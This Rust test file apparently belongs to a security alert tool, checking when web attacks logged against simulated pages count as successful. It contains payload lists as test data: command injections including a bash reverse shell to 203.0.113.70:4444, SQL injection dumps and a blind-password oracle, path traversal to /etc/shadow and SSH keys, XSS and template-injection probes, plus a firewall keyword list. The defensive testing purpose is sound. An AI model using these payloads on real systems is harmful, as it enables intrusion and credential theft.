//! Pages that give in and pages that don't, under the same attacks: the one must be said to have given in, the other never.

use std::time::Duration;

use alert::incident::{Incident, Success};
use alert::tag::TagKey;
use alert::{Class, Timestamp};
use proptest::prelude::*;
use serde_json::json;

use crate::admit::{Admission, Gate, admit};
use crate::fold::{Fold, FoldLimits};
use crate::policy::Policy;

const COMMANDS: [&str; 6] = [
    "127.0.0.1;id",
    "127.0.0.1 | cat /etc/passwd",
    "$(whoami)",
    "127.0.0.1;bash -c 'bash -i >& /dev/tcp/203.0.113.70/4444 0>&1'",
    "127.0.0.1;uname -a",
    "`id`",
];
const STATEMENTS: [&str; 6] = [
    "3 or 1=1--",
    "3 UNION SELECT name,pw FROM users-- -",
    "3' UNION SELECT name,pw FROM users-- -",
    "4 UNION SELECT name,pw,card,1 FROM users WHERE 7>1-- -",
    "3) AND (SELECT COUNT(*) FROM users)>1-- -",
    "-1 UNION SELECT 1,2,3,4 FROM sqlite_master-- -",
];
const FILES: [&str; 6] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "../../../home/shop/.ssh/id_rsa",
    "../../../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
];
const SCRIPTS: [&str; 5] = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert('x')>",
    "<details open ontoggle=confirm(1)>",
    "<body onload=alert(1)>",
];
const TEMPLATES: [&str; 3] =
    ["{{7*7}}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}"];

/// A page: from the value that it is sent to status and size.
type Page = fn(&str) -> (u16, u64);

fn long(text: &str) -> u64 {
    text.len() as u64
}

fn escaped(text: &str) -> u64 {
    text.chars()
        .map(|c| match c {
            '<' | '>' => 4,
            '&' => 5,
            '"' | '\'' => 6,
            other => other.len_utf8() as u64,
        })
        .sum()
}

/// Whether a wall would know it: quotes, tags, keywords.
fn is_known_to_walls(text: &str) -> bool {
    ["passwd", "union", "UNION", "script", "bash", "__", "onerror", "cat "]
        .iter()
        .any(|sign| text.contains(sign))
}

const SAFE: [(&str, Page); 10] = [
    ("is never quite the same", |value| (200, 5120 + long(value) * 37 % 41)),
    ("ignores what it is sent", |_| (200, 5120)),
    ("repeats it as it came", |value| (200, 900 + long(value))),
    ("repeats it masked", |value| (200, 900 + escaped(value))),
    ("repeats it three times", |value| (200, 900 + 2 * escaped(value) + long(value))),
    ("has none of that name", |_| (404, 1043)),
    ("reads the number and no more", |value| match value.split([' ', '\'', ')', ';']).next() {
        Some("3") => (200, 4000),
        Some("4") => (200, 6200),
        _ => (404, 512),
    }),
    ("fails on what is no number", |_| (500, 1300)),
    ("stands behind a wall that refuses with success", |value| {
        if is_known_to_walls(value) { (200, 246) } else { (200, 4100) }
    }),
    ("repeats it behind a wall", |value| {
        if is_known_to_walls(value) { (200, 246) } else { (200, 4100 + escaped(value)) }
    }),
];

fn encoded(value: &str) -> String {
    value
        .bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                char::from(byte).to_string()
            }
            other => format!("%{other:02X}"),
        })
        .collect()
}

/// A site under attack.
struct Scene {
    fold: Fold,
    gate: Gate,
    number: u32,
    last: Vec<Incident>,
}

impl Scene {
    fn new() -> Self {
        let mut gate =
            Gate::new(Policy { level_min: 0, ..Policy::default() }, TagKey::new([1; 32]));
        gate.skew_max = Duration::MAX;
        Self { fold: Fold::new(FoldLimits::default()), gate, number: 0, last: Vec::new() }
    }

    fn ask(&mut self, path: &str, logged: &str, (status, size): (u16, u64)) -> Incident {
        self.number += 1;
        let url = format!("{path}?v={logged}");
        let alert = json!({
            "id": format!("9.{}", self.number),
            "rule": {"id": "31101", "level": 5, "description": "client error", "groups": ["web", "accesslog"]},
            "agent": {"id": "001", "name": "web01"},
            "full_log": format!("192.0.2.1 - - [24/Nov/2026:17:00:00 +0000] \"GET {url} HTTP/1.1\" {status} {size} \"-\" \"x\""),
            "data": {"protocol": "GET", "srcip": "192.0.2.1", "id": status.to_string(), "url": url},
        });
        let at = Timestamp::from_millis(1_795_530_360_000 + i64::from(self.number) * 1000);
        let Admission::Admitted(admitted) = admit(&self.gate, alert.to_string().as_bytes(), at)
        else {
            panic!("not admitted: {alert}");
        };
        let joined = self.fold.join(&admitted);
        let incident =
            self.fold.update(&joined.incident_id, |_| ()).expect("an incident in memory");
        self.last.retain(|known| known.id != incident.id);
        self.last.push(incident.clone());
        incident
    }

    fn attack(&mut self, path: &str, values: &[&str], page: Page) {
        for value in values {
            // What is encoded already is decoded by the server once more than the page sees it.
            let (logged, seen) = if value.contains("%2f") {
                ((*value).to_owned(), value.replace("%2f", "/"))
            } else {
                (encoded(value), (*value).to_owned())
            };
            self.ask(path, &logged, page(&seen));
        }
    }

    fn outcome(&self, class: Class) -> Success {
        self.last
            .iter()
            .filter(|incident| incident.class == class)
            .map(|incident| incident.success)
            .max()
            .unwrap_or_else(|| panic!("no incident of {class}"))
    }
}

#[track_caller]
fn gives_in(class: Class, values: &[&str], page: Page) {
    let mut scene = Scene::new();
    scene.attack("/page/", values, page);
    assert_eq!(scene.outcome(class), Success::Shown);
}

#[test]
fn pages_that_do_not_give_in_are_never_said_to() {
    let attacks: [&[&str]; 4] = [&COMMANDS, &STATEMENTS, &FILES, &TEMPLATES];
    for (what, page) in SAFE {
        for values in attacks {
            let mut scene = Scene::new();
            scene.attack("/page/", values, page);
            for incident in &scene.last {
                assert!(incident.success < Success::Shown, "a page that {what}: {incident:#?}");
            }
        }
    }
}

#[test]
fn pages_that_mask_or_drop_scripts_are_not_said_to_give_them_back() {
    let safe: [(&str, Page); 5] = [
        ("masks", |value| (200, 900 + escaped(value))),
        ("masks twice", |value| (200, 900 + 2 * escaped(value))),
        ("ignores", |_| (200, 900)),
        ("drops tags", |value| (200, 900 + long(value.split('<').next().unwrap_or_default()))),
        ("refuses", |value| if value.contains('<') { (200, 246) } else { (200, 900) }),
    ];
    for (what, page) in safe {
        let mut scene = Scene::new();
        scene.attack("/page/", &SCRIPTS, page);
        assert_eq!(scene.outcome(Class::Xss), Success::Answered, "a page that {what}");
    }
}

#[test]
fn a_page_that_runs_commands_gives_itself_away() {
    gives_in(Class::CommandInjection, &COMMANDS, |value| {
        let output = match value {
            text if text.contains("passwd") => 420,
            text if text.contains("bash") => 0,
            text if text.contains("whoami") => 9,
            text if text.contains("uname") => 110,
            _ => 54,
        };
        (200, 1200 + long(value) + output)
    });
}

#[test]
fn a_statement_that_is_read_gives_itself_away() {
    gives_in(Class::SqlInjection, &STATEMENTS, |value| match value {
        text if text.contains(['\'', ')']) && !text.contains("COUNT") => (500, 1150),
        text if text.contains("or 1=1") => (200, 11_970),
        text if text.contains("users") => (200, 2865),
        _ => (200, 1400),
    });
}

#[test]
fn one_stray_quote_before_and_one_whole_statement_after_are_enough() {
    let mut scene = Scene::new();
    scene.ask("/page/", "3%27", (500, 1150));
    scene.ask("/page/", "3+or+1%3D1--", (200, 11_970));
    let read = scene.ask("/page/", "-1+union+select+1%2Cname%2Cpw%2C4+from+users--+-", (200, 2865));
    assert_eq!(read.success, Success::Shown);
    let effect = read.answers.effect.expect("an effect");
    assert_eq!(
        effect.text(),
        "At /page/ (v) broken statements made the server fail (1), and whole ones that read data were answered with success (1)."
    );
}

#[test]
fn a_gateway_that_fails_under_load_is_no_broken_statement() {
    let mut scene = Scene::new();
    for status in [502, 503, 504] {
        scene.ask("/page/", "3%27+or+1%3D1--", (status, 150));
    }
    scene.attack(
        "/page/",
        &["3 UNION SELECT a FROM b-- -", "4 UNION SELECT a FROM b-- -"],
        |value| (200, if value.starts_with('3') { 4000 } else { 6200 }),
    );
    assert_eq!(scene.outcome(Class::SqlInjection), Success::Answered);
}

#[test]
fn an_oracle_is_one_statement_with_two_answers() {
    let question = |at: u32, letter: u32| {
        format!(
            "chairs' AND SUBSTR((SELECT pw FROM users LIMIT 1),{at},1)>CHAR({letter}) AND 'a'='a"
        )
    };
    let mut scene = Scene::new();
    for at in 1..=8 {
        let yes = at % 2 == 0;
        let answer = if yes { (200, 3060) } else { (404, 1052) };
        scene.ask("/page/", &encoded(&question(at, 64 + at)), answer);
    }
    assert_eq!(scene.outcome(Class::SqlInjection), Success::Shown);

    // Whoever asks whether 1 is 1 has tried the door and taken nothing.
    let mut scene = Scene::new();
    for number in 10..40 {
        let answer = if number % 2 == 0 { (200, 3060) } else { (404, 1052) };
        scene.ask("/page/", &encoded(&format!("chairs' AND 13={number} AND 'a'='a")), answer);
    }
    assert_eq!(scene.outcome(Class::SqlInjection), Success::Answered);
}

#[test]
fn a_page_that_gives_out_files_gives_itself_away() {
    gives_in(Class::PathTraversal, &FILES, |value| match value {
        text if text.contains("etc/passwd") => (200, 472),
        text if text.contains("id_rsa") => (200, 73),
        _ => (404, 43),
    });
}

#[test]
fn answers_that_are_all_alike_are_those_of_a_page_that_ignores_the_file() {
    let mut scene = Scene::new();
    scene.attack("/page/", &FILES, |_| (200, 5120));
    let incident = scene.last.last().expect("an incident");
    assert!(incident.answers.are_alike);
    // One file, read three times, is alike too: that says nothing.
    let mut scene = Scene::new();
    scene.attack("/page/", FILES.get(..3).expect("three"), |_| (200, 472));
    assert!(!scene.last.last().expect("an incident").answers.are_alike);
}

#[test]
fn a_script_that_is_given_back_shows_to_the_byte() {
    for page in [(|value| (200, 1047 + long(value))) as Page, |value| (200, 1047 + 2 * long(value))]
    {
        gives_in(Class::Xss, SCRIPTS.get(..2).expect("two"), page);
    }
}

#[test]
fn templates_that_are_evaluated_give_themselves_away() {
    gives_in(Class::Ssti, &TEMPLATES, |value| match value {
        "{{7*7}}" => (200, 991),
        "{{config}}" => (200, 1105),
        _ => (200, 1074),
    });
}

#[test]
fn a_place_that_gave_in_once_is_remembered_against_one_request() {
    let mut scene = Scene::new();
    scene.attack("/page/", &COMMANDS, |value| (200, 1000 + 50 * long(value)));
    assert_eq!(scene.outcome(Class::CommandInjection), Success::Shown);
    // Another kind of attack at the same place is not known to work, a refusal of the same kind neither.
    scene.attack("/page/", &["{{7*7}}"], |_| (200, 1000));
    assert_eq!(scene.outcome(Class::Ssti), Success::Answered);
}

#[test]
fn what_is_looked_for_has_an_answer_of_its_own_by_nature() {
    let mut scene = Scene::new();
    for (value, size) in COMMANDS.iter().zip([4000, 9000, 4400, 12_000, 5600, 7100]) {
        scene.ask("/search/", &encoded(value), (200, size));
    }
    assert_eq!(scene.outcome(Class::CommandInjection), Success::Answered);
}

#[test]
fn a_page_that_answers_the_same_request_in_many_ways_has_not_given_in() {
    let mut scene = Scene::new();
    for size in [4000, 4300] {
        scene.ask("/page/", &encoded(COMMANDS[0]), (200, size));
    }
    for (value, size) in COMMANDS.iter().zip([5000, 9000, 4400, 12_000, 5600, 7100]) {
        scene.ask("/page/", &encoded(value), (200, size));
    }
    assert_eq!(scene.outcome(Class::CommandInjection), Success::Answered);
}

#[test]
fn a_page_that_changes_in_the_course_of_a_day_has_not_given_in() {
    let mut scene = Scene::new();
    for (value, size) in COMMANDS.iter().zip([4000, 9000, 4400, 12_000, 5600, 7100]) {
        scene.number += 1200;
        scene.ask("/page/", &encoded(value), (200, size));
    }
    assert_eq!(scene.outcome(Class::CommandInjection), Success::Answered);
}

#[test]
fn a_flood_of_failures_and_of_ignored_attacks_hides_no_success() {
    let mut scene = Scene::new();
    for (value, size) in COMMANDS.iter().zip([1250, 1700, 1230, 1448, 1900, 2300]) {
        scene.ask("/page/", &encoded(value), (200, size));
        for number in 0..45 {
            scene.ask("/page/", &encoded(&format!("x{number};cat /tmp/{number}")), (404, 1000));
            scene.ask(&format!("/other{number}/"), &encoded(";id"), (500, 900));
            scene.ask("/page/", &encoded(&format!("{number};id")), (200, 1200));
        }
    }
    assert_eq!(scene.outcome(Class::CommandInjection), Success::Shown);
    let of_class = scene.last.iter().filter(|one| one.class == Class::CommandInjection);
    let flood = of_class.map(|one| one.alert_count).max();
    assert!(flood.is_some_and(|count| count > 500), "{flood:?}");
}

#[test]
fn one_large_answer_among_many_small_ones_is_what_the_statement_asked_for() {
    let dump = "-1 UNION SELECT card,pw FROM cards-- ";
    let outcome = |probes: u32, value: &str, size: u64| {
        let mut scene = Scene::new();
        for number in 0..probes {
            let probe = format!("{}' AND {number}={number}-- ", number % 7);
            scene.ask("/page/", &encoded(&probe), (200, 512));
        }
        scene.ask("/page/", &encoded(value), (200, size));
        scene.outcome(Class::SqlInjection)
    };
    assert_eq!(outcome(40, dump, 90_512), Success::Shown);
    // A longer page, a page of which little is known, and one that was asked for nothing.
    assert_eq!(outcome(40, dump, 1_500), Success::Answered);
    assert_eq!(outcome(10, dump, 90_512), Success::Answered);
    assert_eq!(outcome(40, "1' or 1=1-- ", 90_512), Success::Answered);
}

#[test]
fn incidents_from_before_answers_were_kept_are_read() {
    let mut scene = Scene::new();
    let incident = scene.ask("/page/", "%3Bid", (200, 1200));
    let mut stored = serde_json::to_value(&incident).expect("serialises");
    stored.as_object_mut().expect("an object").remove("answers").expect("kept");
    let read: Incident = serde_json::from_value(stored).expect("reads");
    assert_eq!(read.answers, alert::answer::Answers::default());
}

#[test]
fn what_was_shown_stays_whatever_comes() {
    let mut scene = Scene::new();
    scene.attack("/page/", &COMMANDS, |value| (200, 1000 + 50 * long(value)));
    let before = scene.last.last().expect("an incident").answers.effect.clone();
    assert!(before.is_some());
    for number in 0..500 {
        scene.ask("/page/", &encoded(&format!(";id {number}")), (403, 10));
    }
    let after = scene.last.last().expect("an incident");
    assert_eq!((after.success, &after.answers.effect), (Success::Shown, &before));
}

proptest! {
    // Each case is a site under up to 60 requests.
    #![proptest_config(ProptestConfig::with_cases(40))]

    /// Whatever was answered, in whatever order: success only rises, what is kept is bounded, and stored it reads back.
    #[test]
    fn answers_only_raise(
        steps in prop::collection::vec((0_usize..6, 0_usize..23, 0_usize..6, 0_u64..6000), 1..60)
    ) {
        let statuses = [200, 206, 302, 403, 404, 500];
        let values: Vec<&str> = [&COMMANDS[..], &STATEMENTS[..], &FILES[..], &SCRIPTS[..]].concat();
        let mut scene = Scene::new();
        let mut highest = std::collections::HashMap::new();
        for (place, value, status, size) in steps {
            let value = values.get(value).expect("a value");
            let status = *statuses.get(status).expect("a status");
            let incident = scene.ask(&format!("/p{place}/"), &encoded(value), (status, size));
            let before = highest.insert(incident.id.clone(), incident.success);
            prop_assert!(before.is_none_or(|before| before <= incident.success));
            prop_assert!(incident.answers.effect.is_none() || incident.success >= Success::Shown);
            prop_assert!(incident.answers.places().count() <= alert::answer::PLACES_MAX);
            let stored = serde_json::to_string(&incident).expect("serialises");
            prop_assert_eq!(serde_json::from_str::<Incident>(&stored).expect("reads"), incident);
        }
    }
}
